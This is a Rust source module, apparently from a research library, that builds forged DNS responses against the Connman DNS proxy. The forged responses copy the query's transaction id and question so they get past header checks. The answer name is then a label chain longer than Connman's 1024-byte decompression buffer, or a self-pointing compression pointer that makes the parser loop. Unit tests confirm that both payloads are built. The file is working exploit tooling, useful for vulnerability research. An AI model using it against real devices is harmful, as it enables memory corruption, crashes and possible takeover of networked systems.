//! Forged-response construction: the attacker side of the wire.
//!
//! A forged response must pass the proxy's *header* checks (matching
//! transaction id, echoed question, QR bit, `NOERROR`) so that the
//! vulnerable decompression routine is reached at all — the paper notes
//! that Connman otherwise "dumps the packet as a bad response". Everything
//! after the question section, however, is raw attacker-controlled bytes:
//! the answer record's owner name is emitted as an arbitrary label chain
//! that can exceed every RFC limit.
//!
//! ```
//! use cml_dns::{forge::ResponseForge, Message, Name, Question, RecordType};
//!
//! # fn main() -> Result<(), cml_dns::DnsError> {
//! let query = Message::query(7, Question::new(Name::parse("a.b")?, RecordType::A));
//! let bytes = ResponseForge::answering(&query)
//!     .with_payload_labels(vec![vec![0x41; 63]; 20])?
//!     .build()?;
//! // 20 * 63 = 1260 decompressed bytes: past Connman's 1024-byte buffer.
//! assert!(bytes.len() > 1024);
//! # Ok(())
//! # }
//! ```

use crate::message::Message;
use crate::name::MAX_LABEL_LEN;
use crate::record::{RecordClass, RecordType};
use crate::wire::{WireBuf, WireWriter};
use crate::DnsError;

/// How the forged answer's owner name terminates.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum NameTermination {
    /// A normal root byte (`0x00`) — the overflow vector used by all six
    /// PoCs.
    Root,
    /// A compression pointer to the given message offset. Pointing at the
    /// name's own start yields the classic decompression loop used for
    /// denial-of-service probing.
    Pointer(u16),
}

/// Builder for a header-plausible but malicious DNS response.
#[derive(Debug, Clone)]
pub struct ResponseForge {
    id: u16,
    /// The echoed question section's wire bytes; `None` emits no
    /// question at all.
    question: Option<Vec<u8>>,
    labels: Vec<Vec<u8>>,
    termination: NameTermination,
    rtype: RecordType,
    ttl: u32,
    rdata: Vec<u8>,
}

impl ResponseForge {
    /// Starts a forge that answers `query`, copying its transaction id and
    /// echoing its question section verbatim.
    pub fn answering(query: &Message) -> Self {
        let mut forge = ResponseForge::for_id(query.id());
        forge.retarget_to(query);
        forge
    }

    /// Starts a forge for a raw transaction id with no echoed question
    /// (used in tests that probe the proxy's header gate).
    pub fn for_id(id: u16) -> Self {
        ResponseForge {
            id,
            question: None,
            labels: Vec::new(),
            termination: NameTermination::Root,
            rtype: RecordType::A,
            ttl: 120,
            rdata: vec![10, 13, 37, 1],
        }
    }

    /// Sets the answer owner name's label chain to exactly `labels`.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::EmptyLabel`] or [`DnsError::LabelTooLong`] if a
    /// label violates the *wire-format* limits (those are enforced by the
    /// length-byte encoding itself; everything else is permitted).
    pub fn with_payload_labels(mut self, labels: Vec<Vec<u8>>) -> Result<Self, DnsError> {
        for l in &labels {
            if l.is_empty() {
                return Err(DnsError::EmptyLabel);
            }
            if l.len() > MAX_LABEL_LEN {
                return Err(DnsError::LabelTooLong(l.len()));
            }
        }
        self.labels = labels;
        Ok(self)
    }

    /// Sets the label chain by naively chunking `payload` into 63-byte
    /// labels. The decompressed buffer then contains `payload` with a
    /// length byte before every chunk — sufficient for crash probing, but
    /// exploit chains use `cml-exploit`'s layout solver instead.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::EmptyLabel`] if `payload` is empty.
    pub fn with_chunked_payload(self, payload: &[u8]) -> Result<Self, DnsError> {
        if payload.is_empty() {
            return Err(DnsError::EmptyLabel);
        }
        let labels = payload.chunks(MAX_LABEL_LEN).map(<[u8]>::to_vec).collect();
        self.with_payload_labels(labels)
    }

    /// Chooses how the malicious name terminates.
    pub fn terminate(mut self, termination: NameTermination) -> Self {
        self.termination = termination;
        self
    }

    /// Sets the answer record type (default `A`; the paper also uses
    /// `AAAA`).
    pub fn record_type(mut self, rtype: RecordType) -> Self {
        self.rtype = rtype;
        if self.rtype == RecordType::Aaaa && self.rdata.len() == 4 {
            self.rdata = vec![0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1];
        }
        self
    }

    /// Sets the answer TTL.
    pub fn ttl(mut self, ttl: u32) -> Self {
        self.ttl = ttl;
        self
    }

    /// Sets the RDATA bytes verbatim (RDLENGTH follows automatically).
    pub fn rdata(mut self, rdata: Vec<u8>) -> Self {
        self.rdata = rdata;
        self
    }

    /// Offset within the built message where the malicious answer name
    /// starts — useful for constructing self-referential pointers.
    pub fn answer_name_offset(&self) -> u16 {
        let qlen = self.question.as_ref().map_or(0, Vec::len);
        (12 + qlen) as u16
    }

    /// Re-aims an already-configured forge at a new query without
    /// rebuilding it: replaces the transaction id and overwrites the
    /// echoed question section with `question_wire` (the query's raw
    /// question bytes — the proxy's own queries encode their single
    /// question uncompressed, so the echo is a verbatim copy). Labels,
    /// termination and TTL are kept; capacity of the stored echo is
    /// reused.
    pub fn retarget(&mut self, id: u16, question_wire: &[u8]) {
        self.id = id;
        let wire = self.question.get_or_insert_with(Vec::new);
        wire.clear();
        wire.extend_from_slice(question_wire);
    }

    /// [`retarget`](Self::retarget) at a decoded query: takes its id and
    /// re-encodes its whole question section as the echo, exactly as
    /// [`answering`](Self::answering) starts a fresh forge.
    pub fn retarget_to(&mut self, query: &Message) {
        self.id = query.id();
        let wire = self.question.get_or_insert_with(Vec::new);
        // The echo encodes names uncompressed: a one-question echo never
        // benefits from compression, and it keeps offsets in the forged
        // record independent of compression state.
        let mut w = WireWriter::from_vec(std::mem::take(wire));
        for q in query.questions() {
            q.qname()
                .encode_uncompressed(&mut w)
                .expect("unbounded writer");
            w.write_u16(q.qtype().to_u16()).expect("unbounded writer");
            w.write_u16(q.qclass().to_u16()).expect("unbounded writer");
        }
        *wire = w.into_bytes();
    }

    /// In-place companion to [`record_type`](Self::record_type) for
    /// forge reuse: sets the answer type and resets RDATA to that
    /// type's default (what a freshly constructed forge would carry).
    pub fn set_record_type(&mut self, rtype: RecordType) {
        self.rtype = rtype;
        self.rdata.clear();
        if rtype == RecordType::Aaaa {
            self.rdata
                .extend_from_slice(&[0x20, 0x01, 0x0d, 0xb8, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1]);
        } else {
            self.rdata.extend_from_slice(&[10, 13, 37, 1]);
        }
    }

    /// Emits the forged response bytes.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::MessageTooLarge`] if the result would exceed
    /// [`crate::MAX_PROXY_MESSAGE`].
    pub fn build(&self) -> Result<Vec<u8>, DnsError> {
        let mut out = WireBuf::new();
        self.encode_into(&mut out)?;
        Ok(out.into_vec())
    }

    /// [`build`](Self::build) into a reusable buffer: `out`'s contents
    /// are replaced, its capacity is kept, and a warm buffer makes the
    /// whole encode allocation-free.
    ///
    /// # Errors
    ///
    /// Returns [`DnsError::MessageTooLarge`] if the result would exceed
    /// [`crate::MAX_PROXY_MESSAGE`].
    pub fn encode_into(&self, out: &mut WireBuf) -> Result<(), DnsError> {
        let mut w = WireWriter::from_vec_with_limit(
            std::mem::take(out.as_mut_vec()),
            crate::MAX_PROXY_MESSAGE,
        );
        // Header: response, recursion available, NOERROR.
        w.write_u16(self.id)?;
        w.write_u16(0x8180)?;
        w.write_u16(if self.question.is_some() { 1 } else { 0 })?;
        w.write_u16(1)?;
        w.write_u16(0)?;
        w.write_u16(0)?;
        if let Some(q) = &self.question {
            w.write_bytes(q)?;
        }
        // The malicious answer record.
        for label in &self.labels {
            w.write_u8(label.len() as u8)?;
            w.write_bytes(label)?;
        }
        match self.termination {
            NameTermination::Root => w.write_u8(0)?,
            NameTermination::Pointer(off) => w.write_u16(0xC000 | off)?,
        }
        w.write_u16(self.rtype.to_u16())?;
        w.write_u16(RecordClass::In.to_u16())?;
        w.write_u32(self.ttl)?;
        w.write_u16(self.rdata.len() as u16)?;
        w.write_bytes(&self.rdata)?;
        *out.as_mut_vec() = w.into_bytes();
        Ok(())
    }

    /// Total decompressed size the proxy will attempt to write into its
    /// name buffer: one length byte per label plus the label bytes
    /// (mirrors the vulnerable `get_name` accounting).
    pub fn decompressed_len(&self) -> usize {
        self.labels.iter().map(|l| l.len() + 1).sum()
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::name::Name;
    use crate::question::Question;
    use crate::record::RecordType;

    fn query() -> Message {
        Message::query(
            0x4242,
            Question::new(Name::parse("time.example.com").unwrap(), RecordType::A),
        )
    }

    #[test]
    fn forged_header_passes_strict_header_decode() {
        let bytes = ResponseForge::answering(&query())
            .with_chunked_payload(&[0x41; 200])
            .unwrap()
            .build()
            .unwrap();
        let mut r = crate::WireReader::new(&bytes);
        let h = crate::Header::decode(&mut r).unwrap();
        assert_eq!(h.id, 0x4242);
        assert!(h.response);
        assert_eq!(h.qdcount, 1);
        assert_eq!(h.ancount, 1);
    }

    #[test]
    fn strict_decoder_rejects_oversized_forged_name() {
        let bytes = ResponseForge::answering(&query())
            .with_chunked_payload(&[0x41; 1300])
            .unwrap()
            .build()
            .unwrap();
        // The strict message decoder must refuse what the vulnerable proxy
        // accepts: that asymmetry is the bug under study.
        assert!(Message::decode(&bytes).is_err());
    }

    #[test]
    fn small_forged_name_is_strictly_valid() {
        let bytes = ResponseForge::answering(&query())
            .with_payload_labels(vec![b"evil".to_vec(), b"example".to_vec()])
            .unwrap()
            .build()
            .unwrap();
        let m = Message::decode(&bytes).unwrap();
        assert_eq!(m.answers().len(), 1);
        assert_eq!(m.answers()[0].name().to_string(), "evil.example");
    }

    #[test]
    fn label_limits_enforced_at_wire_level() {
        assert!(matches!(
            ResponseForge::for_id(1).with_payload_labels(vec![vec![0x41; 64]]),
            Err(DnsError::LabelTooLong(64))
        ));
        assert!(matches!(
            ResponseForge::for_id(1).with_payload_labels(vec![vec![]]),
            Err(DnsError::EmptyLabel)
        ));
    }

    #[test]
    fn pointer_loop_termination() {
        let forge = ResponseForge::answering(&query())
            .with_payload_labels(vec![b"loop".to_vec()])
            .unwrap();
        let off = forge.answer_name_offset();
        let bytes = forge
            .terminate(NameTermination::Pointer(off))
            .build()
            .unwrap();
        // The pointer targets the name's own start, so the strict decoder
        // chases it in a loop until the hop cap trips.
        assert!(matches!(
            Message::decode(&bytes),
            Err(DnsError::PointerLimit(_))
        ));
    }

    #[test]
    fn decompressed_len_counts_length_bytes() {
        let forge = ResponseForge::for_id(0)
            .with_payload_labels(vec![vec![0x41; 63], vec![0x42; 10]])
            .unwrap();
        assert_eq!(forge.decompressed_len(), 64 + 11);
    }

    #[test]
    fn aaaa_gets_16_byte_default_rdata() {
        let bytes = ResponseForge::answering(&query())
            .with_payload_labels(vec![b"x".to_vec()])
            .unwrap()
            .record_type(RecordType::Aaaa)
            .build()
            .unwrap();
        let m = Message::decode(&bytes).unwrap();
        assert_eq!(m.answers()[0].rtype(), RecordType::Aaaa);
    }

    #[test]
    fn retargeted_forge_matches_fresh_forge() {
        let labels = vec![b"pay".to_vec(), b"load".to_vec()];
        let q2 = Message::query(
            0x9999,
            Question::new(Name::parse("other.example.com").unwrap(), RecordType::Aaaa),
        );
        let mut reused = ResponseForge::answering(&query())
            .with_payload_labels(labels.clone())
            .unwrap();
        let mut qwire = WireWriter::new();
        let qq = &q2.questions()[0];
        qq.qname().encode_uncompressed(&mut qwire).unwrap();
        qwire.write_u16(qq.qtype().to_u16()).unwrap();
        qwire.write_u16(qq.qclass().to_u16()).unwrap();
        reused.retarget(0x9999, qwire.as_bytes());
        reused.set_record_type(RecordType::Aaaa);
        let fresh = ResponseForge::answering(&q2)
            .with_payload_labels(labels.clone())
            .unwrap()
            .record_type(RecordType::Aaaa)
            .build()
            .unwrap();
        assert_eq!(reused.build().unwrap(), fresh);
        // And back: a later A query on the same forge must also match a
        // fresh forge (RDATA resets to the A default).
        let mut qwire = WireWriter::new();
        let q1 = query();
        let qq = &q1.questions()[0];
        qq.qname().encode_uncompressed(&mut qwire).unwrap();
        qwire.write_u16(qq.qtype().to_u16()).unwrap();
        qwire.write_u16(qq.qclass().to_u16()).unwrap();
        reused.retarget(0x4242, qwire.as_bytes());
        reused.set_record_type(RecordType::A);
        let fresh_a = ResponseForge::answering(&query())
            .with_payload_labels(labels)
            .unwrap()
            .build()
            .unwrap();
        assert_eq!(reused.build().unwrap(), fresh_a);
    }

    #[test]
    fn encode_into_matches_build_and_reuses_capacity() {
        let forge = ResponseForge::answering(&query())
            .with_chunked_payload(&[0x41; 200])
            .unwrap();
        let mut out = WireBuf::new();
        forge.encode_into(&mut out).unwrap();
        assert_eq!(out.as_bytes(), &forge.build().unwrap()[..]);
        let ptr = out.as_bytes().as_ptr();
        forge.encode_into(&mut out).unwrap();
        assert_eq!(out.as_bytes().as_ptr(), ptr, "warm buffer reused");
    }

    #[test]
    fn build_respects_proxy_ceiling() {
        let labels = vec![vec![0x41; 63]; 70]; // ~4.5 KiB
        let forge = ResponseForge::for_id(9)
            .with_payload_labels(labels)
            .unwrap();
        assert!(matches!(
            forge.build(),
            Err(DnsError::MessageTooLarge { .. })
        ));
    }
}
